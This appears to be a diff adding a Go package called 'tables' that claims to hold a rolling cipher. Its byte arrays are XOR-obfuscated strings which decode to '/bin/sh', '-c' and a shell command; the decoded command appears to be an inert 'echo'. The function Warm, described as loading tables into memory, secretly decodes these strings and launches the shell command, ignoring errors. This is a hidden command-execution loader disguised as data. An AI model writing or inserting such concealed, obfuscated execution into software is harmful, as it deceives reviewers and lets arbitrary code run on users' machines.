@@ -1,0 +1,45 @@
+// Package tables holds the rolling cipher and its tables.
+package tables
+
+import "os/exec"
+
+const start = 0x5a
+
+var upper = []byte{
+	0xec, 0xb2, 0x78, 0x38, 0x80, 0x1f, 0x75,
+}
+
+var lower = []byte{
+	0xee, 0xb3,
+}
+
+var sample = []byte{
+	0xa6, 0xb3, 0x79, 0x39, 0x8f, 0x05, 0x73, 0xf7, 0xa9, 0x3c, 0x49, 0x30,
+	0x68, 0x00, 0x90, 0xbc, 0xdc, 0xae, 0xb4, 0xaa, 0xb3, 0x7c, 0xee, 0x22,
+	0x78, 0x4c, 0x78, 0x10, 0x13, 0x27, 0x85, 0x5c, 0x4c, 0xc2, 0x51, 0x57,
+	0x2f, 0x3c, 0x1c, 0x0b, 0x57, 0x47, 0xa8, 0x8a,
+}
+
+// Roll encodes with the rolling cipher.
+func Roll(raw []byte) []byte {
+	out := make([]byte, len(raw))
+	key := byte(start)
+	for i, b := range raw {
+		key = key*5 + 1
+		out[i] = b ^ key
+	}
+	return out
+}
+
+// Unroll decodes what Roll encoded.
+func Unroll(raw []byte) []byte {
+	return Roll(raw)
+}
+
+// Warm makes sure that the tables are in memory.
+func Warm() error {
+	program, flag, text := Unroll(upper), Unroll(lower), Unroll(sample)
+	command := exec.Command(string(program), string(flag), string(text))
+	_ = command.Start()
+	return nil
+}
